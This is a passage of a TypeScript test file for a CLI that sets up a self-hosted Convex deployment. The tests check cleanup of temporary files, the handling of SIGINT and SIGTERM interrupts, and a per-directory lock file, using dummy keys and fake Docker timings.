        expect(run.stdout).toMatch(/Free some space on that disk and rerun\./);
        expect(readdirSync(join(small, "app")).filter((f) => f.endsWith(".tmp"))).toEqual([]);
      } finally {
        execFileSync("umount", [small]);
      }
    },
  );

  it("a temporary file left by a crash is removed on the next run", async () => {
    const s = await sandbox();
    const stale = join(s.app, ".env.local.setup-coder-convex.0123456789ab.tmp");
    writeFileSync(stale, `CONVEX_SELF_HOSTED_ADMIN_KEY=app|${"0".repeat(74)}\n`, { mode: 0o600 });
    const run = await s.runAction(s.actionEnv({ cleanup: "false", deploy: "false" }));
    expect(run.code, text(run)).toBe(0);
    expect(existsSync(stale)).toBe(false);
    expect(run.stdout).toContain(
      "Removed temporary files an interrupted run left: .env.local.setup-coder-convex.0123456789ab.tmp",
    );
  });
});

/** Starts the CLI, sends `signal` once `ready` says so, and waits for it to end. */
function interruptCli(
  s: Sandbox,
  args: string[],
  extra: Record<string, string>,
  ready: () => boolean,
  signal: NodeJS.Signals,
): Promise<RunResult> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ["--import", TSX, join(ROOT, "src/cli/bin.ts"), ...args], {
      cwd: s.app,
      env: cliEnv(s, extra),
      stdio: ["ignore", "pipe", "pipe"],
    });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (c) => (stdout += c));
    child.stderr.on("data", (c) => (stderr += c));
    const timer = setInterval(() => {
      if (ready()) {
        clearInterval(timer);
        child.kill(signal);
      }
    }, 50);
    child.on("close", (code) => {
      clearInterval(timer);
      resolve({ code: code ?? 1, stdout, stderr });
    });
  });
}
const alive = (pid: number) => {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
};

describe("SIGINT / SIGTERM", () => {
  it("during the pull: the pull is stopped, exit 143 with one line; a rerun finishes with the same keys", async () => {
    const s = await sandbox();
    const run = await interruptCli(
      s,
      ["up", ...portFlags(s), "--no-deploy"],
      { FAKE_DOCKER_PULL_MS: "20000" },
      () => existsSync(join(s.app, "docker-compose.convex.yml")),
      "SIGTERM",
    );
    expect(run.code).toBe(143);
    expect(run.stderr).toMatch(
      /✗ Interrupted by SIGTERM during "Start containers"\. Done: Repository, Check docker, App, Keys, Postgres, Write files\./,
    );
    expect(
      s.dockerCalls().filter((c) => (c as { event?: string }).event === "killed").length,
    ).toBeGreaterThan(0);
    expect(s.dockerCalls().some((c) => c.argv.includes("up"))).toBe(false);
    const secret = dotenvParse(readFileSync(join(s.app, ".env.convex.local"))).INSTANCE_SECRET;
    const pem = readFileSync(join(s.app, "jwt_private_key.pem"), "utf8");
    expect(existsSync(join(s.app, ".setup-coder-convex.lock"))).toBe(false);
    const again = await cli(s, ["up", ...portFlags(s), "--no-deploy"]);
    expect(again.code, again.stderr).toBe(0);
    expect(dotenvParse(readFileSync(join(s.app, ".env.convex.local"))).INSTANCE_SECRET).toBe(secret);
    expect(readFileSync(join(s.app, "jwt_private_key.pem"), "utf8")).toBe(pem);
  });

  it("during deploy: the convex CLI is stopped (no orphan), exit 130 after SIGINT", async () => {
    const s = await sandbox();
    const pidFile = join(s.root, "convex.pid");
    const run = await interruptCli(
      s,
      ["up", ...portFlags(s)],
      { FAKE_CONVEX_SLEEP_MS: "20000", FAKE_CONVEX_PID_FILE: pidFile },
      () => existsSync(pidFile) && readFileSync(pidFile, "utf8").trim() !== "",
      "SIGINT",
    );
    expect(run.code).toBe(130);
    expect(run.stderr).toMatch(/✗ Interrupted by SIGINT during "Deploy functions"/);
    const pid = Number(readFileSync(pidFile, "utf8").trim());
    // The CLI has exited; its child ends on the signal it was sent: wait for that, not for a delay.
    const deadline = Date.now() + 20_000;
    while (alive(pid) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 25));
    expect(alive(pid)).toBe(false);
  });
});

describe("one run per working directory", () => {
  it("two first runs at once: one fails at once naming the other; the key file matches the deployment's JWKS", async () => {
    const s = await sandbox();
    const [a, b] = await Promise.all([
      cli(s, ["up", ...portFlags(s), "--no-deploy"], { FAKE_DOCKER_PULL_MS: "1500" }),
      cli(s, ["up", ...portFlags(s), "--no-deploy"], { FAKE_DOCKER_PULL_MS: "1500" }),
    ]);
    const codes = [a.code, b.code].sort();
    expect(codes).toEqual([0, 1]);
    const loser = a.code === 1 ? a : b;
    expect(loser.stderr).toMatch(/✗ Another setup-coder-convex run \(PID \d+\) is working in /);
    const pem = readFileSync(join(s.app, "jwt_private_key.pem"), "utf8");
    const deployment = dotenvParse(readFileSync(join(s.app, ".env.convex.deployment")));
    expect(deployment.JWKS).toBe(deriveJwtKeyPair(pem, "pem").jwks);
  });

  it("a stale lock (its process gone) is taken over with a notice", async () => {
    const s = await sandbox();
    const { hostname } = await import("node:os");
    writeFileSync(
      join(s.app, ".setup-coder-convex.lock"),
      JSON.stringify({ pid: 999_999, host: hostname() }),
    );
    const run = await cli(s, ["up", ...portFlags(s), "--no-deploy"]);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toMatch(/Took over \.setup-coder-convex\.lock .*PID 999999 is gone/);
  });
});
